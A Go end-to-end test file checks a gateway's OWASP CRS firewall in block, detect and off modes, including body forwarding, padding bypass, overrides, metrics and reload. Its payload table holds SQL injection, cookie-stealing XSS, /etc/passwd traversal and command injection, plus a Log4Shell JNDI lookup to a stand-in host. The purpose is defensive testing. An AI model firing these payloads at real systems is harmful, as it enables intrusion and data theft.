package server_test

// End-to-end tests of the WAF stage (OWASP CRS through Coraza) through the
// real listener: an attacker's table in four places of the request, each
// with a benign twin, in block, detect and off mode; byte-identical body
// forwarding; padding past the inspection limit; per-operation overrides;
// metrics; reload.

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/internal/server"
)

// bodyUpstream records the exact body bytes it received per request ID.
type bodyUpstream struct {
	srv    *httptest.Server
	mu     sync.Mutex
	bodies map[string][]byte
}

func newBodyUpstream(t *testing.T) *bodyUpstream {
	t.Helper()
	u := &bodyUpstream{bodies: map[string][]byte{}}
	u.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		if err != nil {
			http.Error(w, "read body", http.StatusBadRequest)
			return
		}
		u.mu.Lock()
		if len(u.bodies) < 10000 {
			u.bodies[r.Header.Get("X-Request-Id")] = b
		}
		u.mu.Unlock()
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprintf(w, "ok %d", len(b))
	}))
	t.Cleanup(u.srv.Close)
	return u
}

func (u *bodyUpstream) body(id string) ([]byte, bool) {
	u.mu.Lock()
	defer u.mu.Unlock()
	b, ok := u.bodies[id]
	return b, ok
}

const (
	wafBodyLimit = 2048
	wafHost      = "api.example.test"
)

// wafGateway serves the same spec three times: /wafb (block, with a detect
// override for createNote), /wafd (detect) and /wafo (no WAF).
func wafGateway(t *testing.T, up string) *gw {
	t.Helper()
	return startGateway(t, gwConfig{APIs: wafAPIs(up, "block")})
}

func wafAPIs(up, mode string) []apiConfig {
	return []apiConfig{
		{Name: "wafb", Version: "v1", Spec: "waf-v1.yaml", Upstream: up, BasePath: "/wafb",
			APIExtra: fmt.Sprintf("    waf:\n      mode: %s\n      paranoia: 1\n      inbound_threshold: 5\n      body_limit: %d\n      operations:\n        createNote: {mode: detect}\n", mode, wafBodyLimit)},
		{Name: "wafd", Version: "v1", Spec: "waf-v1.yaml", Upstream: up, BasePath: "/wafd",
			APIExtra: fmt.Sprintf("    waf: {mode: detect, body_limit: %d}\n", wafBodyLimit)},
		{Name: "wafo", Version: "v1", Spec: "waf-v1.yaml", Upstream: up, BasePath: "/wafo",
			APIExtra: "    waf: {mode: \"off\"}\n"},
	}
}

type wafProbe struct {
	name   string
	method string
	path   string // relative to the API's base path
	header http.Header
	ctype  string
	body   string
}

// wafPayloads are the attacks of the issue, each with a benign twin that
// shares its shape (quotes, apostrophes, slashes, braces, markdown).
var wafPayloads = []struct{ name, attack, benign string }{
	{"sqli", "' UNION SELECT password FROM users--", "O'Brien's \"special\" order, union of two boxes"},
	{"xss", "<script>alert(document.cookie)</script>", "**Bold** _markdown_ with a [link](https://example.com/docs) and `code`"},
	{"path-traversal", "../../../../etc/passwd", "docs/guides/getting-started.md"},
	{"command-injection", ";cat /etc/passwd", "Cats & dogs; 2 passengers"},
	{"log4shell", "${jndi:ldap://evil.example/a}", "Total: $12.50 {approx.} for 2 items, see note #3"},
}

// wafProbes places a value in the query, a header (Cookie: CRS inspects
// cookies with the argument rules), a JSON body and a form body.
func wafProbes(name, v string) []wafProbe {
	js := fmt.Sprintf(`{"customer":{"name":%q},"note":%q,"qty":2}`, v, v)
	return []wafProbe{
		{name: name + "/query", method: "GET", path: "/items?" + url.Values{"q": {v}}.Encode()},
		{name: name + "/header", method: "GET", path: "/items", header: http.Header{"Cookie": {"pref=" + url.QueryEscape(v)}}},
		{name: name + "/json", method: "POST", path: "/items", ctype: "application/json", body: js},
		{name: name + "/form", method: "POST", path: "/items", ctype: "application/x-www-form-urlencoded", body: url.Values{"note": {v}, "qty": {"2"}}.Encode()},
	}
}

func (g *gw) sendProbe(t *testing.T, base string, p wafProbe, id string) (*http.Response, []byte) {
	t.Helper()
	h := p.header.Clone()
	if h == nil {
		h = http.Header{}
	}
	h.Set("X-Request-Id", id)
	if p.ctype != "" {
		h.Set("Content-Type", p.ctype)
	}
	var body io.Reader
	if p.body != "" {
		body = strings.NewReader(p.body)
	}
	// A name, not an IP: CRS scores a numeric Host (920350).
	return g.do(t, g.client("h1"), p.method, base+p.path, reqOpts{header: h, body: body, host: wafHost})
}

// TestWAFAttackTable: every attack in every place is refused with a generic
// 403 in block mode and never reaches the upstream; in detect mode it
// passes and is logged with its rule IDs; with the WAF off it passes
// unlogged. Every benign twin passes in block mode, byte for byte.
func TestWAFAttackTable(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := wafGateway(t, up.srv.URL)
	n := 0
	for _, pl := range wafPayloads {
		for _, p := range wafProbes(pl.name, pl.attack) {
			for _, mode := range []string{"block", "detect", "off"} {
				n++
				id := fmt.Sprintf("waf-attack-%03d", n)
				t.Run("attack/"+p.name+"/"+mode, func(t *testing.T) {
					resp, body := g.sendProbe(t, "/waf"+mode[:1], p, id)
					_, reached := up.body(id)
					switch mode {
					case "block":
						pb := assertProblem(t, resp, body, http.StatusForbidden, "forbidden")
						if reached {
							t.Error("a blocked request reached the upstream")
						}
						for _, leak := range []string{"942", "941", "930", "932", "944", "rule", "sql", "xss", "score", "anomaly", "CRS", "Coraza"} {
							if strings.Contains(strings.ToLower(pb.Detail+pb.Title), strings.ToLower(leak)) {
								t.Errorf("block response reveals %q: %s", leak, body)
							}
						}
						if !strings.Contains(g.logs.String(), "request_id="+id) || !wafLogged(g, id) {
							t.Errorf("no log line with the WAF rules for %s", id)
						}
					case "detect":
						if resp.StatusCode != http.StatusOK || !reached {
							t.Fatalf("detect mode: status %d, reached %v; want 200 and forwarded: %s", resp.StatusCode, reached, body)
						}
						if !wafLogged(g, id) {
							t.Errorf("detect mode did not log the match for %s:\n%s", id, g.logs.String())
						}
					case "off":
						if resp.StatusCode != http.StatusOK || !reached {
							t.Fatalf("WAF off: status %d, reached %v", resp.StatusCode, reached)
						}
						if wafLogged(g, id) {
							t.Error("an API with the WAF off was inspected")
						}
					}
				})
			}
		}
		for _, p := range wafProbes(pl.name, pl.benign) {
			n++
			id := fmt.Sprintf("waf-benign-%03d", n)
			t.Run("benign/"+p.name, func(t *testing.T) {
				resp, body := g.sendProbe(t, "/wafb", p, id)
				if resp.StatusCode != http.StatusOK {
					t.Fatalf("benign twin refused: %d %s", resp.StatusCode, body)
				}
				got, ok := up.body(id)
				if !ok {
					t.Fatal("benign request did not reach the upstream")
				}
				if !bytes.Equal(got, []byte(p.body)) {
					t.Errorf("upstream got body %q, sent %q", got, p.body)
				}
				if wafLogged(g, id) {
					t.Errorf("benign twin matched a rule:\n%s", logLines(g, id))
				}
			})
		}
	}
}

func (g *gw) wafGet(t *testing.T, path string) (*http.Response, []byte) {
	t.Helper()
	return g.do(t, g.client("h1"), http.MethodGet, path, reqOpts{host: wafHost})
}

// wafLogged reports whether the gateway logged WAF findings for id.
func wafLogged(g *gw, id string) bool {
	for _, l := range strings.Split(logLines(g, id), "\n") {
		if strings.Contains(l, "waf_rules=") && !strings.Contains(l, "waf_rules=[]") {
			return true
		}
	}
	return false
}

func logLines(g *gw, id string) string {
	var out []string
	for _, l := range strings.Split(g.logs.String(), "\n") {
		if strings.Contains(l, "request_id="+id) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// TestWAFBodyForwarding: inspected bodies reach the upstream byte for byte,
// whether framed by Content-Length or chunked, including non-ASCII text,
// a body exactly at the inspection limit, and one in detect mode beyond it.
func TestWAFBodyForwarding(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := wafGateway(t, up.srv.URL)
	atLimit := `{"text":"` + strings.Repeat("a", wafBodyLimit-11) + `"}`
	if len(atLimit) != wafBodyLimit {
		t.Fatalf("fixture is %d bytes", len(atLimit))
	}
	over := `{"text":"` + strings.Repeat("b", 3*wafBodyLimit) + `"}`
	cases := []struct {
		name, base, ctype, body string
		chunked                 bool
	}{
		{"json unicode", "/wafb", "application/json", `{"name":"Zoë O'Brien","city":"Zürich","emoji":"\u2603 ☃","n":1.5e3}`, false},
		{"json chunked", "/wafb", "application/json", `{"name":"Ada \"the first\" Lovelace"}`, true},
		{"form", "/wafb", "application/x-www-form-urlencoded", "name=O%27Brien&note=hello+world&x=%E2%98%83", false},
		{"vendor json", "/wafb", "application/vnd.api+json", `{"data":{"type":"items","attributes":{"title":"It's fine"}}}`, false},
		{"exactly the limit", "/wafb", "application/json", atLimit, false},
		{"over the limit, detect", "/wafd", "application/json", over, false},
		{"over the limit, detect, chunked", "/wafd", "application/json", over, true},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			id := fmt.Sprintf("waf-fwd-%02d", i)
			var body io.Reader = strings.NewReader(tc.body)
			if tc.chunked {
				body = io.MultiReader(body) // unknown length: sent chunked
			}
			resp, rb := g.do(t, g.client("h1"), "POST", tc.base+"/items", reqOpts{body: body, host: wafHost,
				header: http.Header{"Content-Type": {tc.ctype}, "X-Request-Id": {id}}})
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d: %s", resp.StatusCode, rb)
			}
			got, ok := up.body(id)
			if !ok || !bytes.Equal(got, []byte(tc.body)) {
				t.Errorf("upstream body differs: got %d bytes, sent %d", len(got), len(tc.body))
			}
		})
	}
}

// TestWAFPaddingBypass: an attack pushed past body_limit by padding is
// refused (413) in block mode instead of being forwarded uninspected; the
// same padding without an attack is refused too (the WAF cannot vouch for
// what it did not read), and under the limit the attack is caught (403).
func TestWAFPaddingBypass(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := wafGateway(t, up.srv.URL)
	pad := strings.Repeat("x", wafBodyLimit)
	cases := []struct {
		name, ctype, body string
		chunked           bool
		status            int
		kind              string
	}{
		{"json padded attack", "application/json", `{"pad":"` + pad + `","q":"' UNION SELECT password FROM users--"}`, false, 413, "body-too-large"},
		{"json padded attack chunked", "application/json", `{"pad":"` + pad + `","q":"' UNION SELECT password FROM users--"}`, true, 413, "body-too-large"},
		{"form padded attack", "application/x-www-form-urlencoded", "pad=" + pad + "&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", false, 413, "body-too-large"},
		{"json attack under the limit", "application/json", `{"pad":"` + pad[:100] + `","q":"' UNION SELECT password FROM users--"}`, false, 403, "forbidden"},
		{"malformed json", "application/json", `{"q": "' UNION SELECT password FROM users--"`, false, 403, "forbidden"},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			id := fmt.Sprintf("waf-pad-%02d", i)
			var body io.Reader = strings.NewReader(tc.body)
			if tc.chunked {
				body = io.MultiReader(body)
			}
			resp, rb := g.do(t, g.client("h1"), "POST", "/wafb/items", reqOpts{body: body, host: wafHost,
				header: http.Header{"Content-Type": {tc.ctype}, "X-Request-Id": {id}}})
			assertProblem(t, resp, rb, tc.status, tc.kind)
			if _, ok := up.body(id); ok {
				t.Error("the request reached the upstream")
			}
		})
	}
}

// TestWAFOperationOverride: createNote is detect-only in the block API, so
// an attack on it passes (and is logged) while the same attack on
// createItem of the same API is refused.
func TestWAFOperationOverride(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := wafGateway(t, up.srv.URL)
	js := `{"q":"' UNION SELECT password FROM users--"}`
	h := func(id string) http.Header {
		return http.Header{"Content-Type": {"application/json"}, "X-Request-Id": {id}}
	}
	resp, body := g.do(t, g.client("h1"), "POST", "/wafb/items", reqOpts{body: strings.NewReader(js), host: wafHost, header: h("waf-ovr-item")})
	assertProblem(t, resp, body, 403, "forbidden")
	resp, body = g.do(t, g.client("h1"), "POST", "/wafb/notes", reqOpts{body: strings.NewReader(js), host: wafHost, header: h("waf-ovr-note")})
	if resp.StatusCode != 200 {
		t.Fatalf("createNote (detect override): %d %s", resp.StatusCode, body)
	}
	if !wafLogged(g, "waf-ovr-note") {
		t.Error("the detect override did not log the match")
	}
}

// TestWAFMetrics: decisions are counted by API and action, matches by rule.
func TestWAFMetrics(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := wafGateway(t, up.srv.URL)
	q := "/items?" + url.Values{"q": {"' UNION SELECT password FROM users--"}}.Encode()
	g.wafGet(t, "/wafb"+q)
	g.wafGet(t, "/wafd"+q)
	g.wafGet(t, "/wafd"+q)
	g.wafGet(t, "/wafb/items?q=fine")
	text := g.scrape(t)
	if v := metricValue(text, "gatehouse_waf_decisions_total", "api", "wafb", "action", "block"); v != 1 {
		t.Errorf("block decisions of wafb = %v, want 1", v)
	}
	if v := metricValue(text, "gatehouse_waf_decisions_total", "api", "wafd", "action", "detect"); v != 2 {
		t.Errorf("detect decisions of wafd = %v, want 2", v)
	}
	if v := metricValue(text, "gatehouse_waf_rule_matches_total", "rule", "942100"); v != 3 {
		t.Errorf("matches of 942100 = %v, want 3", v)
	}
	if v := metricValue(text, "gatehouse_denials_total", "stage", "waf", "reason", "waf_blocked"); v != 1 {
		t.Errorf("waf denials = %v, want 1", v)
	}
}

// TestWAFReload: a reload switches an API from detect to block; a reload
// with a bad exclusion is refused with the file and line of the exclusion
// and the old config keeps serving.
func TestWAFReload(t *testing.T) {
	t.Parallel()
	up := newBodyUpstream(t)
	g := startGateway(t, gwConfig{APIs: wafAPIs(up.srv.URL, "detect")})
	q := "/wafb/items?" + url.Values{"q": {"<script>alert(document.cookie)</script>"}}.Encode()
	if resp, body := g.wafGet(t, q); resp.StatusCode != 200 {
		t.Fatalf("detect mode: %d %s", resp.StatusCode, body)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()

	writeFileAtomic(t, g.cfgPath, gwConfig{APIs: wafAPIs(up.srv.URL, "block")}.render())
	if err := g.srv.Reload(ctx); err != nil {
		t.Fatalf("reload to block: %v", err)
	}
	resp, body := g.wafGet(t, q)
	assertProblem(t, resp, body, 403, "forbidden")

	apis := wafAPIs(up.srv.URL, "detect")
	apis[1].APIExtra = "    waf:\n      mode: detect\n      exclude_rules: [941100, 123456]\n"
	bad := gwConfig{APIs: apis}.render()
	writeFileAtomic(t, g.cfgPath, bad)
	err := g.srv.Reload(ctx)
	ps := problemsOf(t, err)
	line := lineOf(t, bad, "exclude_rules: [941100, 123456]")
	if !hasProblemAt(ps, g.cfgPath, line) || !strings.Contains(ps.Error(), "123456") {
		t.Errorf("problems %q do not name %s:%d and rule 123456", ps, g.cfgPath, line)
	}
	resp, body = g.wafGet(t, q)
	assertProblem(t, resp, body, 403, "forbidden") // still the block config
}

// TestWAFConfigErrors: bad WAF settings stop the gateway from starting,
// each reported at its line.
func TestWAFConfigErrors(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, extra, marker, want string }{
		{"unknown rule", "    waf:\n      mode: block\n      exclude_rules: [999999]\n", "exclude_rules", "999999"},
		{"unknown tag", "    waf:\n      mode: block\n      exclude_tags: [attack-nonsense]\n", "exclude_tags", "attack-nonsense"},
		{"evaluation rule", "    waf:\n      mode: block\n      exclude_rules: [949110]\n", "exclude_rules", "949110"},
		{"unknown operation", "    waf:\n      mode: block\n      operations:\n        noSuchOp: {mode: detect}\n", "noSuchOp", "noSuchOp"},
		{"bad override exclusion", "    waf:\n      mode: block\n      operations:\n        createNote:\n          exclude_rules: [1]\n", "exclude_rules: [1]", "1 is not a rule"},
		{"bad mode", "    waf: {mode: shout}\n", "waf:", "mode"},
		{"paranoia out of range", "    waf: {mode: block, paranoia: 5}\n", "waf:", "paranoia"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			cfg := gwConfig{APIs: []apiConfig{{Name: "wafb", Version: "v1", Spec: "waf-v1.yaml", Upstream: "http://127.0.0.1:9", BasePath: "/wafb", APIExtra: tc.extra}}}
			text := cfg.render()
			_, path := prepareDir(t, text)
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			srv, err := server.Start(ctx, server.Options{ConfigPath: path, Version: "e2e-test", Env: testEnv,
				Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
			if err == nil {
				srv.Close()
				t.Fatal("the gateway started with a bad WAF config")
			}
			ps := problemsOf(t, err)
			line := lineOf(t, text, tc.marker)
			if !hasProblemAt(ps, path, line) || !strings.Contains(ps.Error(), tc.want) {
				t.Errorf("problems %q do not name %s:%d and %q", ps, path, line, tc.want)
			}
		})
	}
}

// TestWAFReadmeExample: the README's WAF block, on the orders API, loads
// and behaves as documented (getOrder blocks, listOrders is off).
func TestWAFReadmeExample(t *testing.T) {
	t.Parallel()
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(readme), "\n## WAF\n")
	if !ok {
		t.Fatal("README has no WAF section")
	}
	_, block, _ := strings.Cut(section, "\n    waf:\n")
	block, _, _ = strings.Cut(block, "```")
	up := newEchoUpstream(t, "orders-backend")
	api := ordersAPI(up.URL())
	api.APIExtra = "    waf:\n" + block
	g := startGateway(t, gwConfig{APIs: []apiConfig{api}})
	attack := "?" + url.Values{"q": {"<script>alert(document.cookie)</script>"}}.Encode()
	resp, body := g.wafGet(t, "/orders/v1/orders/42"+attack)
	assertProblem(t, resp, body, 403, "forbidden")
	if resp, body := g.wafGet(t, "/orders/v1/orders"+attack); resp.StatusCode != 200 {
		t.Errorf("listOrders (waf off in the README example): %d %s", resp.StatusCode, body)
	}
}
